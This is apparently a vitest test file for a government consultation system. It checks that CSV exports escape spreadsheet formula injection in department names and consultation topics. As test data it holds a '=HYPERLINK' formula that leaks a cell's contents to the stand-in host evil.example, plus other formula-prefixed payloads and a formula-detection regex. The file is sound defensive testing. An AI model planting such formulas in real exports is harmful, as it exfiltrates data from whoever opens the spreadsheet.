// CSV injection (formula injection): text that staff typed and that a spreadsheet would run as a
// formula — a department's name, a consultation's topic or decision — is exported escaped, as text.
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { insertPerson } from '../../db/people.js';
import { createTestApp, type TestApp } from '../helpers/api-app.js';
import { createDepartments, createRegions } from '../helpers/org-setup.js';
import { bearer, people } from '../helpers/tokens.js';

type Headers = { authorization: string };
let t: TestApp;
let admin: Headers;
let auditor: Headers;
const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")';

beforeAll(async () => {
  t = await createTestApp();
  [admin, auditor] = await Promise.all([bearer(people.nationalAdmin), bearer(people.lygAuditor)]);
  await createRegions(t.app, admin);
  await createDepartments(t.app, admin, [
    ['EVIL', '320700', hyperlink, 'approval'],
    ['ZWFW', '320700', '市政务服务管理办公室', 'both'],
  ]);
  await insertPerson(t.database.db, { id: 'p-zwfw', kind: 'person', name: '协调员', phone: null, region: '320700', deptCode: 'ZWFW', divisionCode: null, roles: ['coordinator'], level: 1 });
  const meeting = (topics: string[], decisions: string[]) => ({ heldOn: '2026-03-18', convenedBy: 'ZWFW', topics, participants: [{ deptCode: 'ZWFW', personIds: ['p-zwfw'] }], decisions, followUps: [], reason: '会商记录' });
  for (const body of [meeting(['+SUM(1+1)'], ['-2+3']), meeting(['@SUM(A1:A9)'], ['\t=1+1']), meeting(['\r=1+1'], ['普通结论'])]) {
    expect((await t.app.inject({ method: 'POST', url: '/api/consultations', headers: admin, payload: body })).statusCode).toBe(201);
  }
});
afterAll(async () => t?.close());

const exported = async (url: string) => {
  const res = await t.app.inject({ method: 'GET', url, headers: auditor });
  expect(res.statusCode).toBe(200);
  return res.body;
};

/** Every cell of a CSV body; none may start like a formula. */
const cellsOf = (body: string) => (parse(body, { bom: true }) as string[][]).flat();
const formulaLike = /^[=+\-@\t\r]/;

describe('CSV exports', () => {
  it('escape a department name that is a formula, in the assessment and the half-year summaries', async () => {
    for (const url of ['/api/stats/assessment.csv?from=2026-03-01&to=2026-04-01', '/api/consultations/summaries/export?year=2026&half=1']) {
      const body = await exported(url);
      expect(body).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""点此查看"")"`);
      expect(cellsOf(body)).toContain(`'${hyperlink}`);
      expect(cellsOf(body).filter((cell) => formulaLike.test(cell))).toEqual([]);
    }
  });

  it('escape consultation text starting with + - @, a tab or a carriage return', async () => {
    const body = await exported('/api/consultations/export?from=2026-01-01&to=2027-01-01');
    for (const cell of [`"'+SUM(1+1)"`, `"'-2+3"`, `"'@SUM(A1:A9)"`, `"'\t=1+1"`, `"'\r\n=1+1"`]) expect(body).toContain(cell);
    expect(cellsOf(body).filter((cell) => formulaLike.test(cell))).toEqual([]);
    // Ordinary text stays as it was.
    expect(body).toContain(',普通结论,');
  });
});
